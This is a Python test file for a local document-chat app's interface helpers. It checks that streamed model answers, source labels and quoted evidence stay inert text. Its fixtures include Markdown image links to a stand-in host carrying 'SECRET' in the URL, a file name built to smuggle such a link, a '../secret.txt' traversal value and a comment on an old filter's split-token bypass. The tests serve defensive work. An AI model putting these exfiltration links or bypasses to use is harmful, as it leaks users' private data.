"""The page's pure helpers: highlighting, labels, escaping (imported from ``gpt4all_rag.ui``)."""

from __future__ import annotations

import itertools
import re
from collections.abc import Callable
from pathlib import Path

from gpt4all_rag.answer import Answer, Source
from gpt4all_rag.markdown import safe_markdown
from gpt4all_rag.reporting import count, sync_summary
from gpt4all_rag.trust.evidence import Evidence
from gpt4all_rag.trust.grounding import SentenceSupport
from gpt4all_rag.ui.render import (
    evidence_markdown,
    muted,
    passage_html,
    rendered_stream,
    shown_answer,
    source_label,
)
from gpt4all_rag.ui.resources import feedback_store_at
from gpt4all_rag.ui.sources import document_file
from ingest.report import SyncReport
from tests.helpers.exfiltration import assert_inert


def test_passage_html_keeps_lines_and_markdown_literal() -> None:
    html = passage_html("# Title\n*not bold* kelvin\n", "kelvin")

    assert html == ('<div class="passage"># Title<br>*not bold* <mark><b>kelvin</b></mark></div>')


def test_source_label_names_file_and_page() -> None:
    paged = Source(number=1, file="manual.pdf", page=2, text="t", score=0.5, similarity=0.6)
    unpaged = Source(number=3, file="my_notes.md", page=None, text="t", score=0.5, similarity=0.6)

    assert source_label(paged) == "\\[1\\] manual\\.pdf · page 2"
    assert source_label(unpaged) == "\\[3\\] my\\_notes\\.md"


def test_a_hostile_file_name_in_a_label_stays_text() -> None:
    hostile = Source(
        number=2, file="x.![](http://evil.example/a.png)", page=1, text="t", score=0.5,
        similarity=0.6,
    )  # fmt: skip

    assert source_label(hostile) == (
        "\\[2\\] x\\.\\!\\[\\]\\(`http://evil.example/a.png`\\) · page 1"
    )


def test_document_file_stays_inside_the_folder(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "a.txt").write_text("a")
    (tmp_path / "secret.txt").write_text("s")

    assert document_file(docs, "a.txt") == (docs / "a.txt").resolve()
    assert document_file(docs, "../secret.txt") is None
    assert document_file(docs, "gone.txt") is None


def test_sync_summary() -> None:
    report = SyncReport(added=["a.pdf"], failed=[("b.pdf", "bad")], chunks_total=3)

    assert sync_summary(report) == "Index updated: 1 added, 1 failed (3 chunks in total)."
    assert sync_summary(SyncReport(unchanged=4)) is None


def test_count() -> None:
    assert [count(1, "chunk"), count(0, "chunk"), count(3, "file")] == [
        "1 chunk",
        "0 chunks",
        "3 files",
    ]


def ticks(step: float, per_call: int = 1) -> Callable[[], float]:
    """A clock that advances ``step`` every ``per_call`` readings."""
    readings = itertools.count()
    return lambda: (next(readings) // per_call) * step


def test_a_stream_is_rendered_whole_after_each_token() -> None:
    # The old filter's bypass: "\\" and "![...](...)" in different tokens.
    tokens = ["See", " \\", "![x](https://evil.example/?q=SECRET)", " done."]

    shown = list(rendered_stream(iter(tokens), clock=ticks(1.0, per_call=2)))

    assert shown == [
        "See▌",
        "See \\\\▌",
        "See \\!x \\(`https://evil.example/?q=SECRET`\\)▌",
        "See \\!x \\(`https://evil.example/?q=SECRET`\\) done\\.▌",
    ]


def test_a_split_image_is_never_live_while_streaming() -> None:
    tokens = ["Wow", "!", "[x](https://evil.example/a.png)", " [r]", "\n\n[r]: http://e.example/"]

    shown = list(rendered_stream(iter(tokens), clock=ticks(1.0, per_call=2)))

    assert shown[2] == "Wowx \\(image not loaded\\: `https://evil.example/a.png`\\)▌"
    for markdown in shown:
        assert_inert(markdown)


def test_a_fast_stream_is_rendered_at_most_every_interval() -> None:
    # Tokens every 30 ms, rendering free: a rendering every 0.1 s, each of the whole text.
    tokens = [f"w{n} " for n in range(10)]
    # The clock is read when a token comes, and again after each rendering.
    times = iter([0, 0, 0.03, 0.06, 0.09, 0.12, 0.12, 0.15, 0.18, 0.21, 0.24, 0.24, 0.27])

    shown = list(rendered_stream(iter(tokens), clock=lambda: next(times)))

    assert shown == ["w0 ▌", "w0 w1 w2 w3 w4 ▌", "w0 w1 w2 w3 w4 w5 w6 w7 w8 ▌"]


def test_a_slow_rendering_is_made_less_often() -> None:
    # A rendering that takes 0.05 s is repeated only after 5 x 0.05 s.
    times = iter([0.0, 0.05, 0.1, 0.2, 0.24, 0.25, 0.3, 0.6, 0.65, 0.7])
    tokens = ["a ", "b ", "c ", "d ", "e ", "f ", "g "]

    shown = list(rendered_stream(iter(tokens), clock=lambda: next(times)))

    assert shown == ["a ▌", "a b c d e ▌", "a b c d e f ▌"]


def test_passage_html_never_holds_a_blank_line() -> None:
    # A blank line would end the HTML block, and Markdown (an image) would follow.
    text = "a\r\rb\r\n\r\n![x](http://evil.example/i.png)\n\nc"

    html = passage_html(text, "zzz")

    assert html == (
        '<div class="passage">a<br><br>b<br><br>![x](http://evil.example/i.png)<br><br>c</div>'
    )


def test_the_feedback_store_is_one_per_file_and_process(tmp_path: Path) -> None:
    first = feedback_store_at(str(tmp_path / "feedback.jsonl"))

    assert feedback_store_at(str(tmp_path / "feedback.jsonl")) is first
    assert feedback_store_at(str(tmp_path / "other.jsonl")) is not first


# --- the finished answer: evidence, inferred markers, unsupported claims ------------------


def sentence(text: str, *, supported: bool = True, inferred: int = 0) -> SentenceSupport:
    cited = (inferred,) if inferred else ()
    return SentenceSupport(text, cited, 0.9 if supported else 0.2, bool(inferred), supported)


def checked(*sentences: SentenceSupport) -> Answer:
    text = " ".join(s.marked_text() for s in sentences)
    return Answer(question="q", text=text, sentences=sentences)


def gray_labels(markdown: str) -> list[str]:
    """The labels of ``:gray[...]`` as a directive parser reads them (micromark's rule).

    The label ends at the first ``]`` that closes the brackets opened in it; a
    backslash escapes the character after it, code spans are not known.
    """
    labels = []
    for start in (m.end() for m in re.finditer(r":gray\[", markdown)):
        depth, index = 0, start
        while index < len(markdown):
            char = markdown[index]
            if char == "\\":
                index += 1
            elif char == "[":
                depth += 1
            elif char == "]":
                if depth == 0:
                    break
                depth -= 1
            index += 1
        labels.append(markdown[start:index])
    return labels


def test_an_invented_sentence_is_grey_with_a_note_and_an_added_marker_italic() -> None:
    answer = checked(
        sentence("Runs at 451 kelvin.", inferred=2),
        sentence("Built by ] penguins ![x] on Mars.", supported=False),
    )

    shown = shown_answer(answer, "both")

    assert shown.markdown == (
        "Runs at 451 kelvin *\\[2\\]*\\. :gray[Built by \\] penguins \\!\\[x\\] on Mars\\.] "
        ":gray[*\\(not found in your sources\\)*]"
    )
    assert gray_labels(shown.markdown) == [
        "Built by \\] penguins \\!\\[x\\] on Mars\\.",
        "*\\(not found in your sources\\)*",
    ]
    assert shown.notes == (
        "Markers in *italics* were added by the source check, not by the model.",
    )
    assert shown_answer(answer, "evidence").markdown == ""


def test_an_answer_with_code_is_shown_plain_with_the_claims_listed() -> None:
    # A `]` inside code would end a :gray[ label early and let the rest of the code
    # span be read as Markdown (an image): such answers are never wrapped.
    invented = "Run `]![x](https://evil.example/i.png?q=SECRET)` to see it."
    answer = checked(
        sentence("Runs at 451 kelvin.", inferred=1), sentence(invented, supported=False)
    )

    shown = shown_answer(answer, "both")

    assert shown.markdown == safe_markdown(answer.text)
    assert ":gray[" not in shown.markdown
    assert shown.notes == (
        "Not found in your sources: “Run \\`\\]\\!\\[x\\]\\(`https://evil.example/i.png?q=SECRET`"
        "\\)\\` to see it\\.”",
        "Some \\[n\\] markers were added by the source check, not by the model.",
    )
    for markdown in (shown.markdown, *shown.notes):
        assert_inert(markdown)


def test_muted_wraps_only_text_without_code() -> None:
    assert muted("manual\\.pdf · page 2") == ":gray[manual\\.pdf · page 2]"
    assert muted("a \\` b") == ":gray[a \\` b]"  # an escaped backtick is text
    assert muted("a `b]` c") == "a `b]` c"
    assert muted("a \\\\`b]` c") == "a \\\\`b]` c"  # an escaped backslash, then code


def test_evidence_quotes_hostile_text_as_text() -> None:
    quote = Evidence(
        text="Look ![x](https://evil.example/?q=SECRET)\nhere.",
        source=2,
        file="x.![](http:evil.example?q=1).md",
        page=None,
        score=0.9,
    )

    shown = evidence_markdown([quote])

    assert shown == (
        "- “Look \\!\\[x\\]\\(`https://evil.example/?q=SECRET`\\) here\\.” \\[2\\] "
        ":gray[x\\.\\!\\[\\]\\(http\\:evil\\.example\\?q\\=1\\)\\.md]"
    )
    assert gray_labels(shown) == ["x\\.\\!\\[\\]\\(http\\:evil\\.example\\?q\\=1\\)\\.md"]
    assert_inert(shown)


def _notice_page() -> None:
    """A page that, like the indexing status, reruns itself once after showing its notices."""
    import streamlit as st

    from gpt4all_rag.ui.state import init_state, notices_seen, notify, show_notices

    init_state()
    if st.button("delete", key="delete"):
        notify("success", "Deleted notes\\.md.")
    show_notices()
    if st.session_state.pop("sync_started", False):
        st.rerun()  # the watcher's sync started: the page is drawn again
    notices_seen()


def test_a_notice_survives_the_rerun_the_page_asks_for_itself() -> None:
    from streamlit.testing.v1 import AppTest

    page = AppTest.from_function(_notice_page).run()
    page.session_state["sync_started"] = True
    page.button(key="delete").click().run()
    assert [s.value for s in page.success] == ["Deleted notes\\.md."]
    page.run()  # the next run the person causes: seen, not shown again
    assert [s.value for s in page.success] == []
